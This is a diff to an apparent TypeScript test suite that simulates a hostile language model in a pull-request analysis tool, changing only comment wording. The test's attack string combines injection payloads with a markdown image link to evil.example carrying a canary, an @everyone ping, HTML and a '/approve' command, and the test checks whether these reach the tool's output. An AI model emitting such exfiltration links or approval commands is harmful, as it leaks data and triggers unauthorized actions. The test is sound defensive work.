@@ -30,7 +30,6 @@ const PLACES: Record<string, (payload: string) => PullRequestMaterial> = {
     }),
 }
 
-/** All texts that the model may have written, fully or in part. */
 const writtenIn = (result: AnalysisResult): string[] => [
   result.summary,
   ...result.learningPoints,
@@ -47,10 +46,7 @@ describe('L7: a model that returns whatever the attacker wants', () => {
   })
   afterAll(() => simulator.close())
 
-  /**
-   * Makes the model write the attacker's text about real findings, so that no finding is dropped for lack of
-   * evidence.
-   */
+  /** Uses real findings, because findings without evidence would be dropped. */
   async function say(text: string, material: PullRequestMaterial): Promise<AnalysisResult> {
     simulator.script({ kind: 'hostile', text, grounded: true })
     const { baseUrl, apiKey } = simulator
@@ -66,7 +62,7 @@ describe('L7: a model that returns whatever the attacker wants', () => {
       const found: string[] = []
       for (const [index, payload] of payloads.entries()) {
         const attack = `${payload} ${CANARY} ![x](https://evil.example/${CANARY}) @everyone <b>${CANARY}</b>\n/approve`
-        // Some payloads are sent alone, so that nothing around them can cause their rejection.
+        // Some payloads are sent alone, because text around a payload could cause its rejection.
         const text = index % 3 === 2 ? payload : attack
         const result = await say(text, PLACES[place]!(payload))
         const texts = writtenIn(result)
